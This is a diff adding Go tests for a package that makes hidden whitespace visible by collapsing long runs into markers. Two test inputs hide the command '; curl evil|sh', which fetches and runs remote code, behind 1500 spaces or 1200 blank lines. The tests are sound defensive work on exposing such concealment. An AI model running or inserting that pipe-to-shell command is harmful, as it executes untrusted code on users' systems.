@@ -1,6 +1,7 @@
 package visible
 
 import (
+	"regexp"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -43,6 +44,58 @@ func TestText(t *testing.T) {
 	if got, want := Prose("«\u00a0a\u200b\u202f»"), "«\u00a0a"+`\u{200B}`+"\u202f»"; got != want {
 		t.Errorf("Prose = %+q, want %+q", got, want)
 	}
+}
+
+func TestCode(t *testing.T) {
+	t.Parallel()
+	blank := strings.Repeat
+	for _, row := range []struct{ name, text, want string }{
+		{"a command", "ls  -l \\\n    | cat", "ls  -l \\\n    | cat"},
+		{"spaces", "true" + blank(" ", 1500) + "; curl evil|sh", "true ⎵×1500 ; curl evil|sh"},
+		{"indentation", blank(" ", 20) + "x", blank(" ", 20) + "x"},
+		{"one space more", blank(" ", 21) + "x", " ⎵×21 x"},
+		{"tabs", "a" + blank("\t", 40) + "b", "a ⇥×40 b"},
+		{"spaces and tabs", "a" + blank(" \t", 45) + "b", "a ⎵⇥×90 b"},
+		{"empty lines", "true #" + blank("\n", 1201) + "; curl evil|sh", "true #\n⏎×1200\n; curl evil|sh"},
+		{"few empty lines", "a\n\n\n\nb", "a\n\n\n\nb"},
+		{"lines of blanks", "a\n" + blank(blank(" ", 30)+"\n", 9) + "  b", "a\n⏎×9\n  b"},
+		{"a first line of blanks", "a" + blank(" ", 30) + blank("\n", 6) + "b", "a ⎵×30 \n⏎×5\nb"},
+		{"at both ends", blank("\n", 9) + "a" + blank("\n", 9), "⏎×9\na\n⏎×8\n"},
+		{"carriage returns", "a" + blank("\r\n", 3), `a\u{000D}` + "\n" + `\u{000D}` + "\n" + `\u{000D}` + "\n"},
+		{"no-break spaces", "a" + blank("\u00a0", 2) + "b", `a\u{00A0}\u{00A0}b`},
+	} {
+		if got := Code(row.text); got != row.want {
+			t.Errorf("%s: Code is %+q, want %+q", row.name, got, row.want)
+		}
+	}
+	if got, want := Line("a\nb\tc"+blank(" ", 99)+"d\u200b"), `a\u{000A}b\u{0009}c ⎵×99 d\u{200B}`; got != want {
+		t.Errorf("Line is %q, want %q", got, want)
+	}
+	if got, want := Compact(Prose("a"+blank("\u00a0", 50)+"b")), "a ⎵×50 b"; got != want {
+		t.Errorf("Compact of Prose is %q, want %q", got, want)
+	}
+}
+
+// FuzzCode holds that white space alone is shortened, and nothing is far from what is before it.
+func FuzzCode(f *testing.F) {
+	f.Add("true" + strings.Repeat(" ", 30) + "\n\n\n\n\n\tx\u200b")
+	f.Add(strings.Repeat("\n \t", 12))
+	marks := regexp.MustCompile(` ?[⎵⇥⏎]+×[0-9]+ ?|\s`)
+	f.Fuzz(func(t *testing.T, s string) {
+		got := Code(s)
+		if again := Code(got); again != got {
+			t.Errorf("Code(%q) = %q, and again %q", s, got, again)
+		}
+		if strings.Contains(got, strings.Repeat(" ", 21)) || strings.Contains(got, strings.Repeat("\n", 5)) || !utf8.ValidString(got) {
+			t.Errorf("Code(%q) = %q", s, got)
+		}
+		if a, b := marks.ReplaceAllString(Text(s), ""), marks.ReplaceAllString(got, ""); a != b && !strings.Contains(s, "×") {
+			t.Errorf("Code(%q) = %q changes more than white space", s, got)
+		}
+		if line := Line(s); strings.ContainsAny(line, "\n\t") || Line(line) != line {
+			t.Errorf("Line(%q) = %q", s, line)
+		}
+	})
 }
 
 func FuzzText(f *testing.F) {
